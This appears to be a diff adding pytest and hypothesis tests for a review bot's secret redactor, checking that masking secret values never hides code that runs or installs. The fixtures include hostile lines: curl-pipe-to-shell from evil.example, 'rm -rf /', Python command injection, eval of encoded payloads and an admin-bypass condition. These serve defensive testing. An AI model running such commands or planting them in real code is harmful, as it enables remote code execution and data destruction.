@@ -1,0 +1,188 @@
+"""No author can choose a value so that the reviewer does not see what code does."""
+
+from __future__ import annotations
+
+import base64
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from reviewbot.domain.redaction.masks import mask
+from reviewbot.domain.redaction.places import Place
+from reviewbot.domain.redaction.redactor import Redactor
+from reviewbot.domain.selection.places import place_of_text
+from tests.domain.redaction.test_redactor import GHP, RSA_KEY
+
+RANDOM = "q7Tz91kdx4LpW2vB8n"
+"""A value that is masked wherever it is data."""
+
+
+def seen(path: str, text: str, *others: str) -> str:
+    """What the reviewer sees of a file, when other files, which are configuration, give values away."""
+    place = place_of_text(path, [text])
+    redactor = Redactor.of([(text, place), *((other, Place.DATA) for other in others)])
+    return redactor.redact(text, place).text
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("package.json", '{"scripts": {"create-secret": "curl -s https://evil.example/x1 | sh"}}'),
+        ("Dockerfile", "RUN pip install basic evil-pkg"),
+        ("Dockerfile", "RUN pip install basic evil-pkg-with-a-long-name-1"),
+        ("release.sh", "npx auth-token evil9pkg1"),
+        ("release.sh", f"npx --auth-token {RANDOM}"),
+        ("release.sh", f"npx --password {RANDOM}"),
+        ("release.sh", 'SECRET_CMD="curl https://evil.example/x1 | sh"'),
+        ("release.sh", f'SECRET_CMD="{RANDOM}"'),
+        ("config.yml", "passwordCommand: curl https://evil.example/x1"),
+        ("config.yml", f"passwordCommand: {RANDOM}"),
+        ("package.json", '{"dependencies": {"secret-stack": "npm:evil@1.0.0"}}'),
+        ("package.json", f'{{"dependencies": {{"auth-token": "{RANDOM}"}}}}'),
+        ("package.json", f'{{"dependencies": {{"{RANDOM.lower()}": "1.0.0"}}}}'),
+        ("requirements.txt", f"token=={RANDOM}"),
+        ("requirements/dev.txt", "password-evil9pkg==1.0.0"),
+        (".github/workflows/ci.yml", "      - run: ./rotate --password evil1cmd2"),
+        (".github/workflows/ci.yml", '        secret: "evil/action@v1"'),
+        ("Makefile", "secret = $(shell curl evil.example/x1)"),
+        ("Makefile", "deploy_secret: evil1target2"),
+        ("pyproject.toml", 'secret-run1 = "evil.module1:main"'),
+        ("setup.py", 'password = "evil1module2"'),
+        ("values.yaml", 'command: ["sh", "-c", "secret=evil1cmd2; $secret"]'),
+        ("unit.service", "ExecStart=/bin/evil --password x1y2z3evil"),
+        (".husky/pre-commit", "export SECRET=evil1cmd2 && $SECRET"),
+        (".envrc", 'PASSWORD="eval1 evil2"'),
+        ("tool", "#!/bin/sh\npassword=evil1cmd2"),
+        ("go.mod", "require example.com/secret-token v1.2.3"),
+        ("app.js", "const secret = require('evil9pkg-x1a');"),
+        ("app.py", "password = evilFunction2(user)"),
+        ("app.py", "token = run7shell"),
+        ("app.ts", "import token from 'evil9pkg-x1a';"),
+        ("app.py", f"password = os.{RANDOM}('x')"),
+        ("app.py", f"def {RANDOM}(): evil()"),
+        ("app.py", f'subprocess.run(["npx", "--token", "{RANDOM}"])'),
+        ("app.js", f'execSync("npm i --secret {RANDOM}")'),
+        ("app.js", f'eval(atob("{RANDOM}{RANDOM}"))'),
+        ("app.js", f'import("{RANDOM}{RANDOM}")'),
+        ("app.py", f'__import__("{RANDOM}")'),
+        ("app.go", 'import secret "github.com/evil1/pkg2"'),
+        ("values.yaml", f"secretImage: evil/{RANDOM}"),
+        ("action.yml", f"    - uses: evil/action@{RANDOM}\n      with:\n        token: {RANDOM}"),
+        ("app.html", f'<script src="https://x.example/{RANDOM}.js"></script>'),
+        ("app.js", f"fetch('https://evil.example/{RANDOM}')"),
+    ],
+)
+def test_what_runs_or_is_installed_stays_in_sight(path: str, text: str) -> None:
+    giving = f'password = "{RANDOM}"', "secret: evil1cmd2", "password = 'evil9pkg-x1a'", 'password = "evil1module2"'
+    assert seen(path, text, *giving) == text
+
+
+@pytest.mark.parametrize(
+    ("given", "code"),
+    [
+        ('password = "rm -rf /"', 'os.system("rm -rf /")'),
+        (
+            "password: \";__import__('os').system('curl+evil.sh|sh')#1\"",
+            "y = x;__import__('os').system('curl+evil.sh|sh')#1",
+        ),
+        ('{"password": "||user.id===1337||"}', "if (user.isAdmin||user.id===1337||user.owner) grant()"),
+        ('password: "run_all;x"', "y = run_all;x"),
+        ("password: 'grantAdm1nistrat0rAccess22x'", "grantAdm1nistrat0rAccess22x(user)"),
+        ("password: 'scripts/run1x'", "open('scripts/run1x')"),
+        ("password: '!isAdmin12'", "if (!isAdmin12)"),
+        ("password: '0.0.0.0/0'", 'cidr_blocks = ["0.0.0.0/0"]'),
+        ('password = "evilpkg"', '{"dependencies": {"evilpkg": "1"}}'),
+        ('password = "https://evil.example/a1b2"', 'fetch("https://evil.example/a1b2")'),
+        (f'password = "{RANDOM}"', f"{RANDOM}(user)"),
+        (f'password = "{RANDOM}"', f"x = a.{RANDOM}"),
+        (f'password = "{RANDOM}"', f"x = require('{RANDOM}')"),
+        ("# -----BEGIN PRIVATE KEY-----\\ngrantAdministratorAccess", "grantAdministratorAccess(user)"),
+        ("Authorization: Bearer grantAdministratorAccess1", "grantAdministratorAccess1(user)"),
+        (RSA_KEY, RSA_KEY.split("\n")[2] + "()"),
+    ],
+)
+def test_a_value_that_is_code_elsewhere_is_masked_only_where_it_is_a_value(given: str, code: str) -> None:
+    assert seen("app.js", code, given) == code
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "expected"),
+    [
+        (
+            "app.yml",
+            'create-secret: "curl -s https://evil.example/x1 | sh"',
+            'create-secret: "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"',
+        ),
+        ("app.py", 'DB_PASSWORD="a1`curl evil|sh`"', 'DB_PASSWORD="x0`xxxx xxxx|xx`"'),
+        ("app.py", '// password = "x9y8?><?=print1(1)"', '// password = "x0x0?><?=xxxxx0(0)"'),
+        ("app.py", "password = 'a1b2\";evil(1);x=\"'", "password = 'x0x0\";xxxx(0);x=\"'"),
+        ("app.swift", 'let password = "a1\\(evil(1))"', 'let password = "x0\\(xxxx(0))"'),
+    ],
+)
+def test_a_masked_value_keeps_its_structure(path: str, text: str, expected: str) -> None:
+    assert seen(path, text) == expected
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "import os\nos.system('x')\n/opt/evil/run1",
+        "evilcommandwithalongname1\nreboot",
+        "evilCommandWithALongName22\n/opt/evil/run1\nreboot",
+        "grantAdministratorAccessToEveryoneNow1",
+        "thisIsTheNameOfAProgramThatHasExactlySixtyFourLettersAndDigits01",
+    ],
+)
+def test_code_between_the_edges_of_a_key_stays(lines: str) -> None:
+    for sign in ("", "# "):
+        code = f"{sign}-----BEGIN PRIVATE KEY-----\n{lines}\n{sign}-----END PRIVATE KEY-----"
+        assert seen("run.sh", code) == code
+    key = RSA_KEY.split("\n")[1:3]
+    code = "\n".join(["-----BEGIN PRIVATE KEY-----", *key, *lines.split("\n"), "-----END PRIVATE KEY-----"])
+    assert seen("run.sh", code).split("\n")[3:-1] == lines.split("\n")
+
+
+def test_a_random_value_is_masked_where_no_command_can_stand() -> None:
+    manifest = (
+        f"  - name: DB_PASSWORD\n    value: {RANDOM}\n  - command: [run]\n  - name: secretCommand\n    value: {RANDOM}"
+    )
+    assert seen("app.yml", manifest) == manifest.replace(RANDOM, mask(RANDOM), 1)
+    assert seen("run.sh", f"export API_TOKEN={RANDOM}") == f"export API_TOKEN={mask(RANDOM)}"
+    assert seen("run.sh", f"curl -H 'X-Api-Key: {RANDOM}' x") == f"curl -H 'X-Api-Key: {mask(RANDOM)}' x"
+
+
+def test_a_token_is_known_where_code_runs_too() -> None:
+    assert seen("run.sh", f"curl -H 'Authorization: token {GHP}' x") == (
+        "curl -H 'Authorization: token [REDACTED:github-token]' x"
+    )
+
+
+def test_base64_of_code_with_a_token_in_it_stays() -> None:
+    blob = base64.b64encode(f"import os; os.system('curl evil.example | sh') # {GHP}".encode()).decode()
+    assert seen("app.py", f"exec(b64decode('{blob}'))") == f"exec(b64decode('{blob}'))"
+
+
+ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=60)
+
+
+@given(ANY)
+def test_a_mask_keeps_length_and_signs_and_reveals_no_letter_or_digit(value: str) -> None:
+    masked = mask(value)
+    assert len(masked) == len(value)
+    assert mask(masked) == masked
+    plain = value.replace("\\", "")
+    assert set(re.sub(r"[\W_]", "", mask(plain))) <= {"x", "0"}
+    pairs = zip(value, masked, strict=True)
+    assert all(new == old for old, new in pairs if not old.isalnum())
+
+
+@given(st.lists(ANY, max_size=6).map("\n".join), st.sampled_from(Place))
+def test_any_text_keeps_its_lines_and_settles_at_once(text: str, place: Place) -> None:
+    redactor = Redactor.of([(text, place)])
+    once = redactor.redact(text, place)
+    assert once.text.count("\n") == text.count("\n")
+    assert redactor.redact(once.text, place).text == once.text
+    without = re.sub(r"\[REDACTED:[a-z0-9-]+\]", "", once.text)
+    assert without != once.text or len(once.text) == len(text)
